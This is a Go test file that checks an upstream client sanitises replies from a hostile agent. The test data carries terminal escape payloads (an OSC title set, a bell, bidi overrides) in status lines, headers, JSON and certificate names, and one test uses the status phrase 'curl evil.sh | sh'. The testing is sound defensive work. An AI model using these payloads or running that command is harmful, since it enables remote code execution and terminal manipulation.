package upstream

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/collie-linux/collie/internal/protocol/sanitize"
	"github.com/collie-linux/collie/internal/protocol/wire"
	"github.com/collie-linux/collie/internal/testkit/hostiletest"
	"github.com/collie-linux/collie/internal/testkit/tlstest"
)

// A hostile agent chooses every byte of its reply: the status line, the
// headers, the body and the names in its certificate. These tests answer
// with raw bytes and check that no error, reason or field that leaves
// upstream holds a control, direction or invisible character (X1, X2).

// pwn is what a hostile agent would like to reach a terminal: an OSC
// that sets the window title, a bell, a right-to-left override and a tag
// character.
const pwn = hostiletest.Pwn

// serveBytes answers every request on a private socket with reply.
func serveBytes(t *testing.T, reply string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "desk", "hostile.sock")
	hostiletest.Serve(t, path, func(string) string { return reply })
	return path
}

// assertClean fails when s holds anything X2 removes, or anything a
// terminal must not see.
func assertClean(t *testing.T, what, s string) {
	t.Helper()
	if c, _ := sanitize.Line(s, len(s)); c != s || sanitize.TerminalLine(s) != s {
		t.Errorf("%s is not clean: %q", what, s)
	}
	if strings.Contains(s, "pwned\x07") || strings.ContainsRune(s, 0x1b) {
		t.Errorf("%s carries the escape: %q", what, s)
	}
}

// assertCleanErr checks err's text and every typed error in it.
func assertCleanErr(t *testing.T, err error) {
	t.Helper()
	if err == nil {
		t.Fatal("a hostile reply was taken")
	}
	assertClean(t, "error", err.Error())
	var u *Unreachable
	if errors.As(err, &u) {
		assertClean(t, "Unreachable.Reason", u.Reason)
	}
	var ref *Refused
	if errors.As(err, &ref) {
		assertClean(t, "Refused.Code", ref.Code)
		assertClean(t, "Refused.Message", ref.Message)
		if ref.Status < 400 || ref.Status > 599 {
			t.Errorf("Refused.Status %d would reach a device as its HTTP status", ref.Status)
		}
	}
	if len(err.Error()) > ReasonBytes+64 {
		t.Errorf("error of %d bytes; the cap is %d", len(err.Error()), ReasonBytes)
	}
}

func TestHostileAgentRepliesCleaned(t *testing.T) {
	errBody := `{"error":{"code":"\u001b[31mx","message":"no \u001b]0;pwned\u0007\u202e\udb40\udc41 way` + strings.Repeat("a", 5000) + `"}}`
	tests := []struct {
		name  string
		reply string
	}{
		{"X1_status_line_500", hostiletest.Reply("500 "+pwn, "", "")},
		{"X1_status_line_418_unknown_code", hostiletest.Reply("499 "+pwn, "", "")},
		{"X1_status_line_999", hostiletest.Reply("999 "+pwn, "", "")},
		{"X1_status_line_200_bad_body", hostiletest.Reply("200 "+pwn, "", "{")},
		{"X1_error_json_escapes", hostiletest.Reply("403 "+pwn, "Content-Type: application/json\r\n", errBody)},
		{"X1_error_json_short", hostiletest.Reply("422 "+pwn, "", `{"error":{"code":"bad-answer","message":"no \u001b]0;pwned\u0007\u202e\udb40\udc41 way"}}`)},
		{"X1_error_json_bad_code", hostiletest.Reply("409 Conflict", "", `{"error":{"code":"Evil Code`+pwn+`","message":"m"}}`)},
		{"X1_header_line_without_colon", "HTTP/1.1 200 OK\r\n" + pwn + " no colon here\r\n\r\n"},
		{"X1_header_value_controls", "HTTP/1.1 200 OK\r\nETag: \"a" + pwn + "\"\r\nX-Note: " + pwn + "\r\n\r\n{}"},
		{"X1_json_bad_field_name", hostiletest.Reply("200 OK", "", `{"protocol":1,"agent":"a","\u001b]0;pwned\u0007\u202e":1,"spaces":[]}`)},
		{"X1_json_raw_bytes_in_key", hostiletest.Reply("200 OK", "", "{\"protocol\":1,\"\u202e\U000E0041key\":1,\"spaces\":[]}")},
		{"X1_json_type_error", hostiletest.Reply("200 OK", "", `{"protocol":"\u001b]0;pwned\u0007","spaces":"\u202e"}`)},
		{"X1_json_syntax_error", hostiletest.Reply("200 OK", "", "\x1b]0;pwned\x07")},
		{"X1_redirect_location", hostiletest.Reply("302 "+pwn, "Location: http://x/"+pwn+"\r\n", "")},
		{"X1_write_reply_bad_ids", hostiletest.Reply("200 OK", "", `{"requestId":"r\u202e1","conversation":"c"}`)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := NewSocket(serveBytes(t, tt.reply), os.Getuid())
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			defer cancel()
			h, err := c.Hello(ctx)
			if err == nil {
				assertClean(t, "hello.Agent", h.Agent)
			} else {
				assertCleanErr(t, err)
			}
			rd, err := c.Snapshot(ctx, `"old"`)
			if err == nil {
				assertClean(t, "ETag", rd.ETag)
			} else {
				assertCleanErr(t, err)
			}
			reply, err := c.Write(ctx, wire.SendPath, &wire.SendRequest{Header: wire.Header{RequestID: "r1"}, Conversation: "c", Text: "hi"})
			if err == nil {
				t.Fatalf("write reply %+v taken from a hostile agent", reply)
			}
			assertCleanErr(t, err)
		})
	}
}

// TestHostileStatusNotShown: the reason phrase an agent puts in its status
// line is never shown; Collie names the status itself (X1).
func TestHostileStatusNotShown(t *testing.T) {
	c := NewSocket(serveBytes(t, hostiletest.Reply("503 please run curl evil.sh | sh", "", "")), os.Getuid())
	_, err := c.Hello(context.Background())
	if err == nil || err.Error() != "the agent answered 503 Service Unavailable" {
		t.Fatalf("err = %v, want the standard text of 503", err)
	}
	_, err = c.Write(context.Background(), wire.SendPath, &wire.SendRequest{Header: wire.Header{RequestID: "r1"}, Conversation: "c", Text: "hi"})
	var ref *Refused
	if !errors.As(err, &ref) || ref.Status != 503 || ref.Code != "unknown" || strings.Contains(ref.Message, "curl") {
		t.Fatalf("write err = %#v", err)
	}
}

func TestETagKeptOnlyWhenValid(t *testing.T) {
	tests := []struct {
		name, header, want string
	}{
		{"K7_strong", `"abc-123"`, `"abc-123"`},
		{"K7_weak", `W/"v9"`, `W/"v9"`},
		{"X1_unquoted", `abc`, ""},
		{"X1_space", `"a b"`, ""},
		{"X1_utf8_bidi", "\"a\u202eb\"", ""},
		{"X1_inner_quote", `"a"b"`, ""},
		{"X1_too_long", `"` + strings.Repeat("e", MaxETagBytes) + `"`, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := NewSocket(serveBytes(t, hostiletest.Reply("200 OK", "ETag: "+tt.header+"\r\n", `{"spaces":[]}`)), os.Getuid())
			rd, err := c.Snapshot(context.Background(), "")
			if err != nil {
				t.Fatal(err)
			}
			if rd.ETag != tt.want {
				t.Fatalf("ETag = %q, want %q", rd.ETag, tt.want)
			}
		})
	}
}

// TestHostileCertificateNames: x509's error names the DNS names of the
// agent's certificate, which the agent chose (X1).
func TestHostileCertificateNames(t *testing.T) {
	dir := t.TempDir()
	ca := tlstest.NewCA(t, dir)
	cert := ca.Issue(t, "evil"+"\x1b]0;pwned\x07"+".example", "other.example")
	a := startTLSAgent(t, cert, nil)
	c := newClient(t, a.URL, oldToken, ca.File, 5*time.Second)
	_, err := c.Hello(context.Background())
	assertCleanErr(t, err)
	if !strings.Contains(err.Error(), "certificate") {
		t.Fatalf("err = %v, want the certificate named", err)
	}
}
